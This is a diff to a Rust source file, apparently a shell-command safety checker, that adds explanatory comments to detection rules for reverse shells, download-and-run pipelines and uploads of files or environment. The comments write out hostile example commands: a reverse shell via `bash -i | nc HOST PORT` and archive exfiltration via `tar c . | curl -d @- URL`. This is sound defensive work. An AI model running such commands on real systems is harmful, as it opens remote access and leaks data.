@@ -41,9 +41,11 @@ pub(super) fn report_combinations(
             }
         }
         if call.connects() {
+            // The output of an interactive shell goes to the network: `bash -i | nc HOST PORT`.
             if earlier.iter().any(|call| call.is_one_of(SHELLS) && call.has_argument("-i")) {
                 report(UnsafeCommandKind::ReverseShell, whole());
             }
+            // Keys, an archive or the environment go to the network: `tar c . | curl -d @- URL`.
             if earlier.iter().any(|call| {
                 call.reads_sensitive() || call.is_one_of(&["tar", "zip"]) || call.dumps_environment()
             }) {
@@ -56,10 +58,12 @@ pub(super) fn report_combinations(
         let any_inner = |test: &dyn Fn(&EffectiveCommand<'_, '_>) -> bool| {
             scripts.iter().any(|script| any_direct_command(script, test))
         };
+        // A script that a substitution downloads, or that an earlier pipeline has downloaded into a file.
         let runs = call.is_one_of(INTERPRETERS) || call.is_one_of(&["source", "."]);
         if runs && (any_inner(&|inner| inner.fetches()) || call.texts().any(|text| fetched.contains(text))) {
             report(UnsafeCommandKind::PipeToShell, call.span.clone());
         }
+        // A file or the environment, sent as a part of an address or of a request.
         if call.fetches() && any_inner(&|inner| inner.is_one_of(READERS) || inner.dumps_environment()) {
             report(UnsafeCommandKind::Upload, call.span.clone());
         }
